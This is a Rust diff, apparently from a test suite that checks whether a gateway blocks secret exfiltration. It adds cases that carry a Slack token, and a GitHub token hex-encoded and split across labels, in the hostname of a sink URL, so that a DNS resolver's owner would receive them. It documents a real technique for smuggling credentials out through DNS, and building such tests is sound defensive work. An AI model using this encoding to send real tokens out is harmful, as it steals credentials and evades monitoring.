@@ -26,8 +26,17 @@ pub(super) fn attempts(gateway: &Arc<Gateway>, sink: &SinkUrl) -> Vec<Attempt> {
             add(format!("{} in {place}", secret.kind), sink.clone(), request);
         }
     }
-    add("GitHub token in a label of the host".into(), sink.below(&secrets::github().to_lowercase()), Request::get("/"));
+    for (kind, labels) in labels() {
+        add(format!("{kind} in the host's name"), sink.below(&labels), Request::get("/"));
+    }
     attempts
+}
+
+/// Secrets as a host's name carries them, whose resolver's owner then has them: letters, digits and hyphens, up to 63 a label.
+fn labels() -> [(&'static str, String); 2] {
+    let hex = HEXLOWER.encode(secrets::github().as_bytes());
+    let (first, second) = hex.split_at(hex.len() / 2);
+    [("Slack token", secrets::slack().to_lowercase()), ("GitHub token as hex", format!("{first}.{second}"))]
 }
 
 fn carriers(secret: &str) -> Vec<(&'static str, Request)> {
@@ -71,6 +80,16 @@ fn gzip(bytes: &[u8]) -> Vec<u8> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn labels_are_those_of_a_host() {
+        for (kind, labels) in labels() {
+            let fits = |label: &str| {
+                (1..=63).contains(&label.len()) && label.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
+            };
+            assert!(labels.split('.').all(fits), "{kind}");
+        }
+    }
 
     #[test]
     fn every_place_carries_the_secret_and_no_request_is_broken() {
